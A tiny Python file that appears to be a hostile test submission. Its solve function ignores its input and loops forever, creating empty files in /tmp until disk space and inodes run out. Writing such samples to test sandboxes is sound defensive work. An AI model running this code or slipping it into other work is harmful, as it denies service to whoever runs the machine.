# Small files without end.
import itertools


def solve(n):
    for number in itertools.count():
        open(f'/tmp/{number}', 'w').close()
